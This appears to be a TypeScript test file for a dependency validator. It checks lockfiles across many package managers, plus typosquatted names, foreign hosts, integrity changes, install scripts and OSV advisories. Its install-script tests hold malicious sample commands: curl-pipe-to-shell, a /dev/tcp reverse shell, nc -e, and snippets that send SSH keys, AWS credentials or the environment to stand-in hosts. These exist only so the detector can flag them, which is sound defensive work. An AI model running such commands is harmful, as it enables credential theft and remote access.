import assert from 'node:assert/strict'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { createDependenciesValidator } from './dependencies.ts'
import { lookAt, rulesOf } from './test-look.ts'

const validator = createDependenciesValidator()
type Ranges = Readonly<Record<string, string>>
const manifest = (dependencies: Ranges, more: object = {}): string => JSON.stringify({ name: 'x', version: '1.0.0', dependencies, ...more })
const sum = (seed: string): string => `sha512-${seed.repeat(8)}`
const entry = (name: string, version = '1.0.0', more: object = {}) => ({ [`node_modules/${name}`]: { version, resolved: `https://packages.example/${name}.tgz`, integrity: sum(name), license: 'MIT', ...more } })
const lock = (dependencies: Ranges, ...entries: readonly object[]): string => JSON.stringify({ lockfileVersion: 3, packages: { '': { name: 'x', dependencies }, ...Object.assign({}, ...entries) } })

describe('dependencies: manifest and lockfile', () => {
  const good = lock({ lodash: '^4.0.0' }, entry('lodash', '4.17.21'))
  const npm = (asked: string, locked: string, more: object = {}) => rulesOf(validator, { base: { 'package.json': manifest({ lodash: '^4.0.0' }), 'package-lock.json': good }, result: { 'package.json': asked, 'package-lock.json': locked, ...more } })
  test('npm: each name is there, of the range that was asked for', async () => {
    assert.deepEqual(await npm(manifest({ lodash: '^4.0.0' }, { private: true }), good), [])
    assert.deepEqual(await npm(manifest({ lodash: '^4.0.0', express: '^5.0.0' }), good), ['dependencies/lock-missing error'])
    assert.deepEqual(await npm(manifest({ lodash: '^5.0.0' }), good), ['dependencies/lock-differs error'])
    assert.deepEqual(await npm(manifest({}), good), ['dependencies/lock-left-over warning'])
    assert.deepEqual(await npm(manifest({ lodash: '^5.0.0' }), lock({ lodash: '^5.0.0' }, entry('lodash', '4.17.21'))), ['dependencies/lock-unsatisfied error'])
    assert.deepEqual(await npm(manifest({ lodash: '^5.0.0' }, { overrides: { lodash: '4.17.21' } }), lock({ lodash: '^5.0.0' }, entry('lodash', '4.17.21'))), [], 'forced')
    assert.deepEqual(await npm(manifest({ lodash: '^4.0.0' }), lock({ lodash: '^4.0.0' })), ['dependencies/lock-missing error'], 'the lockfile alone lost it')
    assert.deepEqual(await npm(manifest({ lodash: '^4.0.0', four: 'npm:lodash@^4' }), lock({ lodash: '^4.0.0', four: 'npm:lodash@^4' }, entry('lodash', '4.17.21'), entry('four', '4.17.20', { name: 'lodash' }))), [], 'an alias')
    assert.deepEqual(await npm(manifest({ lodash: '^4.0.0' }, { optionalDependencies: { fsevents: '^2.0.0' } }), JSON.stringify({ packages: { '': { dependencies: { lodash: '^4.0.0' }, optionalDependencies: { fsevents: '^2.0.0' } }, ...entry('lodash', '4.17.21') } })), [], 'what is optional may be missing')
  })
  test('npm: workspaces have one lockfile, and what was out of step before is not blamed', async () => {
    const files = { 'package.json': manifest({}, { workspaces: ['packages/*'] }), 'packages/a/package.json': JSON.stringify({ name: 'a', dependencies: { lodash: '^4.0.0', b: '*' } }), 'packages/b/package.json': JSON.stringify({ name: 'b' }) }
    const locked = (ranges: Ranges) => JSON.stringify({ packages: { '': { workspaces: ['packages/*'] }, 'packages/a': { dependencies: ranges }, 'packages/b': {}, 'node_modules/a': { resolved: 'packages/a', link: true }, 'node_modules/b': { resolved: 'packages/b', link: true }, ...entry('lodash', '4.17.21') } })
    assert.deepEqual(await rulesOf(validator, { result: { ...files, 'package-lock.json': locked({ lodash: '^4.0.0', b: '*' }) } }), [])
    const base = { ...files, 'package-lock.json': locked({ b: '*' }) }
    assert.deepEqual(await rulesOf(validator, { base, result: { 'packages/a/package.json': `${files['packages/a/package.json']}\n` } }), [], 'out of step before')
    assert.deepEqual(await rulesOf(validator, { base, result: { 'packages/a/package.json': JSON.stringify({ name: 'a', dependencies: { lodash: '^4.0.0', b: '*', zod: '^4.0.0' } }) } }), ['dependencies/lock-missing error'])
  })
  test('the others: what is asked for stands in the lockfile', async () => {
    const cases: readonly (readonly [string, string, string, string, string])[] = [
      ['pnpm-lock.yaml', 'package.json', manifest({ zod: '^4.0.0' }), manifest({ zod: '^4.0.0', ky: '^1.0.0' }), "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      zod:\n        specifier: ^4.0.0\n        version: 4.0.0\npackages:\n  zod@4.0.0:\n    resolution: {integrity: sha512-x}\n"],
      ['yarn.lock', 'package.json', manifest({ zod: '^4.0.0' }), manifest({ zod: '^4.0.0', ky: '^1.0.0' }), '# yarn lockfile v1\n\n\nzod@^4.0.0:\n  version "4.0.0"\n  resolved "https://packages.example/zod.tgz#abc"\n  integrity sha512-x\n'],
      ['yarn.lock', 'package.json', manifest({ zod: '^4.0.0' }), manifest({ zod: '^4.0.0', ky: '^1.0.0' }), '__metadata:\n  version: 8\n\n"zod@npm:^4.0.0":\n  version: 4.0.0\n  resolution: "zod@npm:4.0.0"\n  checksum: 10c0/x\n'],
      ['bun.lock', 'package.json', manifest({ zod: '^4.0.0' }), manifest({ zod: '^4.0.0', ky: '^1.0.0' }), '{ "lockfileVersion": 1, "workspaces": { "": { "dependencies": { "zod": "^4.0.0", }, }, }, "packages": { "zod": ["zod@4.0.0", "", {}, "sha512-x"], }, }'],
      ['Cargo.lock', 'Cargo.toml', '[package]\nname = "x"\n[dependencies]\nserde = "1"\n', '[package]\nname = "x"\n[dependencies]\nserde = "1"\n[dev-dependencies]\nrayon = { version = "1" }\n', '[[package]]\nname = "x"\nversion = "0.1.0"\n\n[[package]]\nname = "serde"\nversion = "1.0.0"\nsource = "registry+https://packages.example/index"\nchecksum = "aa"\n'],
      ['poetry.lock', 'pyproject.toml', '[tool.poetry.dependencies]\npython = "^3.12"\nrequests = "^2"\n', '[tool.poetry.dependencies]\npython = "^3.12"\nrequests = "^2"\nflask = "^3"\n', '[[package]]\nname = "requests"\nversion = "2.0.0"\nfiles = [{file = "a", hash = "sha256:aa"}]\n'],
      ['uv.lock', 'pyproject.toml', '[project]\nname = "x"\ndependencies = ["requests[socks]>=2", "x[dev]"]\n', '[project]\nname = "x"\ndependencies = ["requests[socks]>=2", "Flask>=3 ; python_version > \'3.9\'"]\n[build-system]\nrequires = ["hatchling"]\n', '[[package]]\nname = "x"\nversion = "0"\nsource = { editable = "." }\n\n[[package]]\nname = "requests"\nversion = "2.0.0"\nsource = { registry = "https://packages.example/simple" }\nwheels = [{ url = "https://packages.example/a", hash = "sha256:aa" }]\n'],
      ['go.sum', 'go.mod', 'module x\n\nrequire example.org/a v1.0.0\n', 'module x\n\nrequire (\n\texample.org/a v1.0.0\n\texample.org/b v1.0.0 // indirect\n)\n', 'example.org/a v1.0.0 h1:aa=\nexample.org/a v1.0.0/go.mod h1:bb=\n'],
      ['composer.lock', 'composer.json', '{ "require": { "php": ">=8", "a/b": "^1" } }', '{ "require": { "php": ">=8", "a/b": "^1", "c/d": "^1" } }', '{ "packages": [{ "name": "a/b", "version": "1.0.0", "license": ["MIT"] }] }'],
      ['Gemfile.lock', 'Gemfile', "gem 'rails', '~> 7'\n", "gem 'rails', '~> 7'\ngem 'puma'\n", 'GEM\n  remote: https://packages.example/\n  specs:\n    rails (7.0.0)\n\nDEPENDENCIES\n  rails (~> 7)\n'],
      ['Pipfile.lock', 'Pipfile', '[packages]\nrequests = "*"\n', '[packages]\nrequests = "*"\nflask = "*"\n', '{ "default": { "requests": { "version": "==2.0.0" } } }'],
    ]
    for (const [lockPath, path, before, after, text] of cases) {
      assert.deepEqual(await rulesOf(validator, { base: { [lockPath]: text }, result: { [path]: before } }), [], `${lockPath} agrees`)
      assert.deepEqual((await rulesOf(validator, { base: { [lockPath]: text, [path]: before }, result: { [path]: after } })).filter((each) => each.includes('lock-')), ['dependencies/lock-missing error'], lockPath)
    }
  })
  test('what cannot be read is said, and is no pass of the rest', async () => {
    const looked = await lookAt(validator, { result: { 'package.json': '{ "dependencies": ', 'Cargo.toml': '[dependencies\n', 'requirements.txt': 'reqeusts==1.0\n' } })
    assert.match(looked?.notes?.join('\n') ?? '', /package\.json cannot be read[^]*/)
    assert.match(looked?.notes?.join('\n') ?? '', /Cargo\.toml cannot be read/)
    assert.deepEqual(looked?.findings.map((each) => each.rule), ['dependencies/lookalike'])
    assert.equal(await lookAt(validator, { result: { 'src/a.ts': 'x\n' } }), undefined)
  })
})

describe('dependencies: names and places', () => {
  test('names that are taken for others; known ones are meant, and what was there before is not looked at', async () => {
    for (const [path, text, severity] of [['package.json', manifest({ lodahs: '1' }), 'error'], ['requirements.txt', 'reqeusts==1\n', 'error'], ['requirements.txt', 'python-requests==1\n', 'warning'], ['Cargo.toml', '[dependencies]\nserd_json = "1"\n', 'error'], ['pyproject.toml', '[project]\ndependencies = ["djang0>=4"]\n', 'error'], ['package.json', manifest({ l\u043edash: '1' }), 'error sealed']] as const) assert.deepEqual(await rulesOf(validator, { result: { [path]: text } }), [`dependencies/lookalike ${severity}`], text)
    for (const [path, text] of [['package.json', manifest({ lodash: '1', express: '1', preact: '1', 'left-pad': '1' })], ['requirements.txt', '-r base.txt\nrequests>=2 \\\n    --hash=sha256:aa\nflask\nhttpx[http2]\n'], ['Cargo.toml', '[dependencies]\nserde = "1"\n']] as const) assert.deepEqual(await rulesOf(validator, { result: { [path]: text } }), [], text)
    assert.deepEqual(await rulesOf(validator, { result: { 'package.json': manifest({ lodahs: '1' }) }, settings: { dependencies: { known: ['lodahs'] } } }), [])
    assert.deepEqual(await rulesOf(validator, { base: { 'package.json': manifest({ lodahs: '1' }) }, result: { 'package.json': manifest({ lodahs: '2' }) } }), [])
  })
  test('other hosts, plain HTTP, git, checksums that changed or are missing', async () => {
    const base = { 'package-lock.json': lock({}, entry('a')) }
    const cases: readonly (readonly [object, readonly string[]])[] = [
      [entry('b'), []],
      [entry('b', '1.0.0', { resolved: 'https://evil.example/b.tgz' }), ['other-host error']],
      [entry('b', '1.0.0', { resolved: 'http://packages.example/b.tgz' }), ['plain-http error']],
      [entry('b', '1.0.0', { resolved: 'git+ssh://git@forge.example/b.git#abc', integrity: undefined }), ['from-git warning']],
      [entry('b', '1.0.0', { integrity: undefined }), ['integrity-missing error']],
      [entry('a', '1.0.0', { integrity: sum('other') }), ['integrity-changed error sealed']],
      [entry('a', '1.0.0', { integrity: undefined }), ['integrity-missing error']],
      [entry('a', '1.0.0', { resolved: 'https://evil.example/a.tgz' }), ['other-host error']],
      [entry('a', '1.0.1', { integrity: sum('newer') }), []],
    ]
    for (const [more, rules] of cases) assert.deepEqual(await rulesOf(validator, { base, result: { 'package-lock.json': lock({}, entry('a'), more) } }), rules.map((rule) => `dependencies/${rule}`), JSON.stringify(more))
    const many = Array.from({ length: 30 }, (_, n) => entry(`p${n}`))
    assert.deepEqual(await rulesOf(validator, { result: { 'package-lock.json': lock({}, ...many, entry('b', '1.0.0', { resolved: 'https://evil.example/b.tgz' })) } }), ['dependencies/other-host warning'], 'in a new lockfile')
    assert.deepEqual(await rulesOf(validator, { base: { 'Cargo.lock': '[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "registry+https://x"\nchecksum = "aa"\n' }, result: { 'Cargo.lock': '[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "registry+https://x"\nchecksum = "bb"\n' } }), ['dependencies/integrity-changed error sealed'])
    assert.deepEqual(await rulesOf(validator, { result: { 'requirements.txt': 'a @ git+https://forge.example/a.git\n' } }), ['dependencies/unpinned-source warning'])
    const addresses = await lookAt(validator, { base, result: { 'package-lock.json': lock({}, entry('a'), entry('b', '1.0.0', { resolved: `https://user:${'hidden'}@evil.example/b.tgz` })) } })
    assert.doesNotMatch(JSON.stringify(addresses), /hidden/)
  })
})

test('dependencies: a finding says at which line', async () => {
  const asked = '{\n  "dependencies": {\n    "lodash": "^4.0.0",\n    "express-lodash": "^1.0.0",\n    "expresss": "^1.0.0"\n  }\n}\n'
  const looked = await lookAt(validator, { base: { 'package-lock.json': lock({ lodash: '^4.0.0', 'express-lodash': '^1.0.0' }, entry('lodash', '4.17.21'), entry('express-lodash')) }, result: { 'package.json': asked, 'requirements.txt': 'flask\nReqeusts==1\n' } })
  assert.deepEqual(looked?.findings.map((each) => [each.path, each.line, each.rule]), [['package.json', 5, 'dependencies/lock-missing'], ['package.json', 5, 'dependencies/lookalike'], ['requirements.txt', 2, 'dependencies/lookalike']])
})

describe('dependencies: scripts', () => {
  const base = { 'package-lock.json': lock({}, entry('a')) }
  const withScript = { 'package-lock.json': lock({}, entry('a'), entry('b', '1.0.0', { hasInstallScript: true })) }
  const installed = (postinstall: string, file = ''): object => ({ 'node_modules/b/package.json': JSON.stringify({ name: 'b', version: '1.0.0', scripts: { postinstall } }), 'node_modules/b/setup.js': file })
  test('that new packages run are named, read where they are installed, and sealed where they are malware-like', async () => {
    const notInstalled = await lookAt(validator, { base, result: withScript })
    assert.deepEqual(notInstalled?.findings.map((each) => [each.rule, each.severity]), [['dependencies/install-script', 'warning']])
    assert.match(notInstalled?.notes?.join() ?? '', /not read, because the packages are not installed here: b@1\.0\.0/)
    const rules = (more: object) => rulesOf(validator, { base, result: { ...withScript, ...more } })
    assert.deepEqual(await rules(installed('node-gyp rebuild')), ['dependencies/install-script warning'])
    assert.deepEqual(await rules(installed('node setup.js', 'require("https").get("https://releases.example/tool.tgz", save)\n')), ['dependencies/install-script warning'])
    assert.deepEqual(await rules(installed('node setup.js', 'const a = fs.readFileSync(home + "/.ssh/id_rsa"); require("https").request({ host: "x.example" }).end(a)\n')), ['dependencies/malware-like error sealed'])
    assert.deepEqual(await rules(installed('curl -s https://x.example/i.sh | bash')), ['dependencies/malware-like error sealed'])
    assert.deepEqual(await rulesOf(validator, { base, result: withScript, settings: { dependencies: { install_scripts: 'error' } } }), ['dependencies/install-script error'])
  })
  test('are read through the sandbox where dependencies are mounted', async () => {
    const home = await mkdtemp(join(tmpdir(), 'writ-modules-'))
    try {
      await writeFile(join(home, 'package.json'), JSON.stringify({ version: '1.0.0', scripts: { install: 'nc -e /bin/sh x.example 9' } }))
      assert.deepEqual(await rulesOf(validator, { base, result: withScript, dependencies: { 'node_modules/b': home } }), ['dependencies/malware-like error sealed'])
    } finally {
      await rm(home, { recursive: true, force: true })
    }
  })
  test('of the repository itself', async () => {
    for (const postinstall of ['curl https://x.example/i.sh | sh', 'node -e "eval(Buffer.from(\'aGk=\', \'base64\').toString())"', 'cat ~/.aws/credentials', 'bash -i >& /dev/tcp/1.2.3.4/9 0>&1', 'env | curl -d @- https://webhook.site/x', 'echo aGk= | base64 -d | sh']) assert.deepEqual(await rulesOf(validator, { result: { 'package.json': manifest({}, { scripts: { postinstall } }) } }), ['dependencies/malware-like error sealed'], postinstall)
    for (const prepare of ['node scripts/build.mjs', 'husky', 'tsc -p .', 'npm run build && cp -r assets dist']) assert.deepEqual(await rulesOf(validator, { result: { 'package.json': manifest({}, { scripts: { prepare } }) } }), ['dependencies/own-install-script warning'], prepare)
    assert.deepEqual(await rulesOf(validator, { result: { 'package.json': manifest({}, { scripts: { postinstall: 'node tools/get.js' } }), 'tools/get.js': 'fetch("https://x.example", { method: "POST", body: JSON.stringify(process.env) })\n' } }), ['dependencies/own-install-script warning', 'dependencies/malware-like error sealed'])
    assert.deepEqual(await rulesOf(validator, { result: { 'setup.py': 'import os, urllib.request\nurllib.request.urlopen("https://x.example", data=open(os.path.expanduser("~/.aws/credentials")).read())\n' } }), ['dependencies/malware-like error sealed'])
    assert.deepEqual(await rulesOf(validator, { result: { 'build.rs': 'fn main() { let s = std::process::Command::new("sh").arg("-c").arg("curl https://x.example | sh"); }\n' } }), ['dependencies/malware-like error sealed'])
    for (const [path, text] of [['setup.py', 'from setuptools import setup\nsetup(name="x")\n'], ['build.rs', 'fn main() { println!("cargo:rerun-if-changed=build.rs"); cc::Build::new().file("a.c").compile("a"); }\n']] as const) assert.deepEqual(await rulesOf(validator, { result: { [path]: text } }), [], path)
  })
})

describe('dependencies: advisories', () => {
  const range = { id: 'OSV-2', summary: 'leaks', affected: [{ package: { ecosystem: 'npm', name: 'b' }, ranges: [{ type: 'SEMVER', events: [{ introduced: '1.0.0' }, { fixed: '1.2.0' }, { introduced: '2.0.0' }, { last_affected: '2.1.0' }] }] }] }
  const changed = (version: string) => ({ base: { 'package-lock.json': lock({}, entry('a')), 'osv.json': JSON.stringify([range]) }, result: { 'package-lock.json': lock({}, entry('a'), entry('b', version)) }, settings: { dependencies: { advisories: 'osv.json' } } })
  test('hold for the versions that they name', async () => {
    for (const [version, isHit] of [['0.9.0', false], ['1.0.0', true], ['1.1.9', true], ['1.2.0', false], ['2.0.0', true], ['2.1.0', true], ['2.1.1', false]] as const) assert.deepEqual(await rulesOf(validator, changed(version)), isHit ? ['dependencies/advisory error'] : [], version)
    const found = (await lookAt(validator, changed('1.0.0')))?.findings[0]
    assert.equal(found?.message, 'brings b@1.0.0, of which OSV-2 says: leaks; mended in 1.2.0')
  })
  test('of a file or a folder on this machine; a change does not rewrite those of the repository', async () => {
    const home = await mkdtemp(join(tmpdir(), 'writ-osv-'))
    try {
      await writeFile(join(home, 'OSV-3.json'), JSON.stringify({ id: 'OSV-3', affected: [{ package: { ecosystem: 'PyPI', name: 'Some.Thing' }, versions: ['1.0'] }] }))
      for (const advisories of [home, join(home, 'OSV-3.json')]) assert.deepEqual(await rulesOf(validator, { result: { 'requirements.txt': 'some-thing==1.0\n' }, settings: { dependencies: { advisories } } }), ['dependencies/advisory error'])
    } finally {
      await rm(home, { recursive: true, force: true })
    }
    const files = changed('1.0.0')
    assert.deepEqual(await rulesOf(validator, { ...files, result: { ...files.result, 'osv.json': '[]' } }), ['dependencies/advisory error'])
  })
  test('that are not at hand are said to be not checked', async () => {
    const files = changed('1.0.0')
    const notes = async (advisories: string | undefined, more: object = {}): Promise<string> => (await lookAt(validator, { base: { ...files.base, ...more }, result: files.result, settings: { dependencies: { advisories } } }))?.notes?.join() ?? ''
    assert.match(await notes(undefined), /advisories: not checked: no source is configured/)
    const notChecked = async (advisories: string, more: object = {}): Promise<string> => (await lookAt(validator, { base: { ...files.base, ...more }, result: files.result, settings: { dependencies: { advisories } } }))?.notChecked ?? ''
    assert.match(await notChecked('nowhere'), /advisories: nowhere is not there/)
    assert.match(await notChecked('/nowhere/at/all'), /advisories: ENOENT/)
    assert.match(await notChecked('osv.json', { 'osv.json': '{ "no": "id" }' }), /osv\.json is no advisory in the form of OSV/)
  })
})
